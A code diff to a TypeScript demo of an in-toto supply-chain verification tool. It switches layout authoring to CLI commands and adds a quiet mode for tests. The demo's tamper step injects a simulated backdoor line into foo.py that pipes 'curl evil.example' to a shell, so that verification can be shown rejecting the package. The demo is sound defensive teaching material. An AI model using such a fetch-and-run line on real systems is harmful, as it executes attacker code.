@@ -1,7 +1,7 @@
 // Copyright 2026 the intoto authors. Apache-2.0 license.
 /**
  * The in-toto demo, offline, with intoto: alice (the project owner) defines
- * the supply chain, bob clones the code and bumps its version, carl packages
+ * the supply chain with `intoto layout` commands, bob clones the code and bumps its version, carl packages
  * it, and a user verifies the package. Then carl's copy is tampered with
  * between bob's step and his, and verification explains what went wrong.
  *
@@ -12,9 +12,6 @@
  */
 
 import { join } from "node:path";
-import { formatPythonJson } from "../lib/json/python.ts";
-import type { JsonObject } from "../lib/json/parse.ts";
-import { loadPublicKey } from "../lib/crypto/load.ts";
 import { intotoCommand } from "../tests/_helpers.ts";
 
 const useColor = Deno.stdout.isTerminal() && !Deno.env.get("NO_COLOR");
@@ -22,8 +19,24 @@ function paint(code: string, text: string): string {
   return useColor ? `\x1b[${code}m${text}\x1b[0m` : text;
 }
 
+let quiet = false;
+
+/**
+ * Silences the demo's commentary and its commands' output, for tests that
+ * run its parts (a failing command still throws with its stderr).
+ *
+ * @param value True to silence.
+ */
+export function setQuiet(value: boolean): void {
+  quiet = value;
+}
+
+function print(text: string): void {
+  if (!quiet) console.log(text);
+}
+
 function say(text: string): void {
-  console.log(`\n${paint("1", text)}`);
+  print(`\n${paint("1", text)}`);
 }
 
 /** Runs a command in `cwd`, printing it first, and returns its exit code. */
@@ -36,138 +49,113 @@ async function sh(
   const shown = argv.map((arg) =>
     /^[\w./=:,@+-]+$/.test(arg) ? arg : `'${arg}'`
   ).join(" ");
-  console.log(paint("36", `${cwd.split("/").pop()}$ ${shown}`));
+  print(paint("36", `${cwd.split("/").pop()}$ ${shown}`));
   const command = program === "intoto" ? [...intotoCommand(), ...args] : argv;
-  const { code } = await new Deno.Command(command[0]!, {
+  const stdio = quiet ? "piped" : "inherit";
+  const output = await new Deno.Command(command[0]!, {
     args: command.slice(1),
     cwd,
-    stdout: "inherit",
-    stderr: "inherit",
+    stdout: stdio,
+    stderr: stdio,
     env: { GIT_AUTHOR_NAME: "bob", GIT_AUTHOR_EMAIL: "bob@example.com" },
   }).output();
+  const code = output.code;
   const expected = options.expect ?? 0;
   if (code !== expected) {
-    throw new Error(`"${shown}" exited with ${code}, expected ${expected}`);
+    const detail = quiet ? `: ${new TextDecoder().decode(output.stderr)}` : "";
+    throw new Error(
+      `"${shown}" exited with ${code}, expected ${expected}${detail}`,
+    );
   }
   return code;
 }
 
-async function keyObject(path: string): Promise<[string, JsonObject]> {
-  const key = await loadPublicKey(path, { flavour: "legacy" });
-  return [key.keyid, key as unknown as JsonObject];
-}
-
-/** alice's layout: three steps and one inspection, as in the in-toto demo. */
-async function writeLayout(alice: string, bobPub: string, carlPub: string) {
-  const [bobId, bobKey] = await keyObject(bobPub);
-  const [carlId, carlKey] = await keyObject(carlPub);
-  const expires = new Date(Date.now() + 365 * 24 * 3600 * 1000).toISOString()
-    .replace(/\.\d+Z$/, "Z");
-  const layout = {
-    signed: {
-      _type: "layout",
-      expires,
-      readme: "The intoto demo supply chain",
-      keys: { [bobId]: bobKey, [carlId]: carlKey },
-      steps: [{
-        _type: "step",
-        name: "clone",
-        threshold: 1,
-        pubkeys: [bobId],
-        expected_command: [
-          "git",
-          "clone",
-          "--quiet",
-          "../upstream/demo-project",
-          "demo-project",
-        ],
-        expected_materials: [],
-        expected_products: [["CREATE", "demo-project/foo.py"], [
-          "DISALLOW",
-          "*",
-        ]],
-      }, {
-        _type: "step",
-        name: "update-version",
-        threshold: 1,
-        pubkeys: [bobId],
-        expected_command: [],
-        expected_materials: [
-          ["MATCH", "demo-project/*", "WITH", "PRODUCTS", "FROM", "clone"],
-          ["DISALLOW", "*"],
-        ],
-        expected_products: [["MODIFY", "demo-project/foo.py"], [
-          "DISALLOW",
-          "*",
-        ]],
-      }, {
-        _type: "step",
-        name: "package",
-        threshold: 1,
-        pubkeys: [carlId],
-        expected_command: [
-          "tar",
-          "--exclude",
-          ".git",
-          "-zcf",
-          "demo-project.tar.gz",
-          "demo-project",
-        ],
-        expected_materials: [
-          [
-            "MATCH",
-            "demo-project/*",
-            "WITH",
-            "PRODUCTS",
-            "FROM",
-            "update-version",
-          ],
-          ["DISALLOW", "*"],
-        ],
-        expected_products: [["CREATE", "demo-project.tar.gz"], [
-          "DISALLOW",
-          "*",
-        ]],
-      }],
-      inspect: [{
-        _type: "inspection",
-        name: "untar",
-        run: ["tar", "xzf", "demo-project.tar.gz"],
-        expected_materials: [
-          [
-            "MATCH",
-            "demo-project.tar.gz",
-            "WITH",
-            "PRODUCTS",
-            "FROM",
-            "package",
-          ],
-          ["ALLOW", "alice.pub"],
-          ["ALLOW", "root.layout"],
-          ["DISALLOW", "*"],
-        ],
-        expected_products: [
-          [
-            "MATCH",
-            "demo-project/foo.py",
-            "WITH",
-            "PRODUCTS",
-            "FROM",
-            "update-version",
-          ],
-          ["ALLOW", "demo-project.tar.gz"],
-          ["ALLOW", "alice.pub"],
-          ["ALLOW", "root.layout"],
-          ["DISALLOW", "*"],
-        ],
-      }],
-    },
-    signatures: [],
-  };
-  await Deno.writeTextFile(
-    join(alice, "root.layout.template"),
-    formatPythonJson(layout, { indent: 1 }),
+/**
+ * alice's layout, written with `intoto layout` commands in `alice`: three
+ * steps and one inspection, as in the in-toto demo. Writes
+ * `root.layout.template`, unsigned.
+ *
+ * @param alice alice's folder.
+ * @param keys The folder with bob.pub and carl.pub, relative to `alice`.
+ */
+export async function authorLayout(alice: string, keys: string): Promise<void> {
+  const file = "root.layout.template";
+  const bob = `${keys}/bob.pub`;
+  const carl = `${keys}/carl.pub`;
+  const layout = (...args: string[]) =>
+    sh(alice, ["intoto", "layout", ...args]);
+  await layout(
+    "init",
+    file,
+    "--expires",
+    "1y",
+    "--readme",
+    "The intoto demo supply chain",
   );
+  await layout("add-key", file, bob, carl);
+  await layout(
+    "add-step",
+    file,
+    "--name",
+    "clone",
+    "--key",
+    bob,
+    "--product",
+    "CREATE demo-project/foo.py",
+    "DISALLOW *",
+    "--expected-command",
+    "git clone --quiet ../upstream/demo-project demo-project",
+  );
+  await layout(
+    "add-step",
+    file,
+    "--name",
+    "update-version",
+    "--key",
+    bob,
+    "--material",
+    "MATCH demo-project/* WITH PRODUCTS FROM clone",
+    "DISALLOW *",
+    "--product",
+    "MODIFY demo-project/foo.py",
+    "DISALLOW *",
+  );
+  await layout(
+    "add-step",
+    file,
+    "--name",
+    "package",
+    "--key",
+    carl,
+    "--material",
+    "MATCH demo-project/* WITH PRODUCTS FROM update-version",
+    "DISALLOW *",
+    "--product",
+    "CREATE demo-project.tar.gz",
+    "DISALLOW *",
+    "--expected-command",
+    "tar --exclude .git -zcf demo-project.tar.gz demo-project",
+  );
+  await layout(
+    "add-inspection",
+    file,
+    "--name",
+    "untar",
+    "--run",
+    "tar xzf demo-project.tar.gz",
+    "--material",
+    "MATCH demo-project.tar.gz WITH PRODUCTS FROM package",
+    "ALLOW alice.pub",
+    "ALLOW root.layout",
+    "DISALLOW *",
+    "--product",
+    "MATCH demo-project/foo.py WITH PRODUCTS FROM update-version",
+    "ALLOW demo-project.tar.gz",
+    "ALLOW alice.pub",
+    "ALLOW root.layout",
+    "DISALLOW *",
+  );
+  await layout("lint", file);
 }
 
 async function copyInto(
@@ -188,10 +176,19 @@ async function linksIn(dir: string): Promise<string[]> {
   return names.sort();
 }
 
-/** Performs the supply chain; `tamper` edits foo.py between bob's and carl's steps. */
-async function performChain(
+/**
+ * Performs the supply chain and gathers what the user gets in
+ * `final_product` (or `final_product_tampered`): the package, the links,
+ * and every file of owner_alice named in `fromAlice` (default the signed
+ * layout and alice's public key).
+ *
+ * @param work The demo's folder, made by {@linkcode prepare}.
+ * @param options `tamper` edits foo.py between bob's and carl's steps.
+ * @returns The user's folder.
+ */
+export async function performChain(
   work: string,
-  options: { tamper: boolean },
+  options: { tamper: boolean; fromAlice?: string[] },
 ): Promise<string> {
   const bob = join(work, "functionary_bob");
   const carl = join(work, "functionary_carl");
@@ -241,9 +238,7 @@ async function performChain(
     fooPy,
     (await Deno.readTextFile(fooPy)).replace("v0", "v1"),
   );
-  console.log(
-    paint("36", "functionary_bob$ sed -i s/v0/v1/ demo-project/foo.py"),
-  );
+  print(paint("36", "functionary_bob$ sed -i s/v0/v1/ demo-project/foo.py"));
   await sh(bob, [
     "intoto",
     "record",
@@ -259,7 +254,7 @@ async function performChain(
   say("carl receives bob's work");
   await Deno.mkdir(join(carl, "demo-project"), { recursive: true });
   await Deno.copyFile(fooPy, join(carl, "demo-project", "foo.py"));
-  console.log(
+  print(
     paint(
       "36",
       "functionary_carl$ cp ../functionary_bob/demo-project/foo.py demo-project/",
@@ -273,7 +268,7 @@ async function performChain(
       join(carl, "demo-project", "foo.py"),
       "print('v1')\nimport os; os.system('curl evil.example | sh')\n",
     );
-    console.log(
+    print(
       paint("31", "functionary_carl$ echo 'backdoor' >> demo-project/foo.py"),
     );
   }
@@ -304,57 +299,69 @@ async function performChain(
   );
   await copyInto(
     join(work, "owner_alice"),
-    ["root.layout", "alice.pub"],
+    options.fromAlice ?? ["root.layout", "alice.pub"],
     final,
   );
   await copyInto(bob, await linksIn(bob), final);
   await copyInto(carl, [...await linksIn(carl), "demo-project.tar.gz"], final);
-  console.log(paint("36", `${final.split("/").pop()}$ ls`));
-  console.log(
+  print(paint("36", `${final.split("/").pop()}$ ls`));
+  print(
     (await Array.fromAsync(Deno.readDir(final))).map((entry) => entry.name)
       .sort().join("  "),
   );
   return final;
 }
 
+/**
+ * Makes the demo's world in `work`: the upstream git repository with
+ * foo.py, alice's folder with her RSA key pair, and the functionaries' key
+ * pairs in `keys` (bob Ed25519, carl ECDSA P-256).
+ *
+ * @param work An empty folder.
+ * @returns alice's folder and the keys folder.
+ */
+export async function prepare(
+  work: string,
+): Promise<{ alice: string; keys: string }> {
+  const alice = join(work, "owner_alice");
+  const keys = join(work, "keys");
+  const upstream = join(work, "upstream", "demo-project");
+  for (const dir of [alice, keys, upstream]) {
+    await Deno.mkdir(dir, { recursive: true });
+  }
+
+  say("The upstream project: a local git repository with foo.py");
+  await Deno.writeTextFile(join(upstream, "foo.py"), "print('v0')\n");
+  await sh(upstream, ["git", "init", "--quiet", "--initial-branch=main"]);
+  await sh(upstream, ["git", "add", "foo.py"]);
+  await sh(upstream, [
+    "git",
+    "-c",
+    "user.name=bob",
+    "-c",
+    "user.email=bob@example.com",
+    "commit",
+    "--quiet",
+    "-m",
+    "v0",
+  ]);
+
+  say("Everyone makes a key pair: alice RSA, bob Ed25519, carl ECDSA P-256");
+  await sh(alice, ["intoto", "keygen", "-t", "rsa", "alice"]);
+  await sh(keys, ["intoto", "keygen", "-t", "ed25519", "bob"]);
+  await sh(keys, ["intoto", "keygen", "-t", "ecdsa", "carl"]);
+  return { alice, keys };
+}
+
 async function main(): Promise<void> {
   const work = await Deno.makeTempDir({ prefix: "intoto-demo-" });
-  console.log(paint("1", `intoto demo, in ${work}`));
+  print(paint("1", `intoto demo, in ${work}`));
   try {
-    const alice = join(work, "owner_alice");
-    const keys = join(work, "keys");
-    const upstream = join(work, "upstream", "demo-project");
-    for (const dir of [alice, keys, upstream]) {
-      await Deno.mkdir(dir, { recursive: true });
-    }
-
-    say("The upstream project: a local git repository with foo.py");
-    await Deno.writeTextFile(join(upstream, "foo.py"), "print('v0')\n");
-    await sh(upstream, ["git", "init", "--quiet", "--initial-branch=main"]);
-    await sh(upstream, ["git", "add", "foo.py"]);
-    await sh(upstream, [
-      "git",
-      "-c",
-      "user.name=bob",
-      "-c",
-      "user.email=bob@example.com",
-      "commit",
-      "--quiet",
-      "-m",
-      "v0",
-    ]);
-
-    say("Everyone makes a key pair: alice RSA, bob Ed25519, carl ECDSA P-256");
-    await sh(alice, ["intoto", "keygen", "-t", "rsa", "alice"]);
-    await sh(keys, ["intoto", "keygen", "-t", "ed25519", "bob"]);
-    await sh(keys, ["intoto", "keygen", "-t", "ecdsa", "carl"]);
-    await sh(keys, ["intoto", "key", "id", "bob.pub", "carl.pub"]);
-
+    const { alice } = await prepare(work);
     say(
-      "alice writes the layout (steps clone, update-version, package; inspection untar) and signs it",
+      "alice writes the layout (steps clone, update-version, package; inspection untar), checks and signs it",
     );
-    await writeLayout(alice, join(keys, "bob.pub"), join(keys, "carl.pub"));
-    console.log(paint("36", "owner_alice$ $EDITOR root.layout.template"));
+    await authorLayout(alice, "../keys");
     await sh(alice, [
       "intoto",
       "sign",
@@ -378,7 +385,7 @@ async function main(): Promise<void> {
       "-k",
       "alice.pub",
     ]);
-    console.log(
+    print(
       paint(
         "32",
         "Verification passed: the package came from exactly this supply chain.",
@@ -398,14 +405,14 @@ async function main(): Promise<void> {
       "-k",
       "alice.pub",
     ], { expect: 1 });
-    console.log(
+    print(
       paint(
         "32",
         "\nVerification failed, as it must: the tampered package is rejected, and the error says why.",
       ),
     );
   } finally {
-    if (Deno.env.get("INTOTO_DEMO_KEEP")) console.log(`kept ${work}`);
+    if (Deno.env.get("INTOTO_DEMO_KEEP")) print(`kept ${work}`);
     else await Deno.remove(work, { recursive: true });
   }
 }
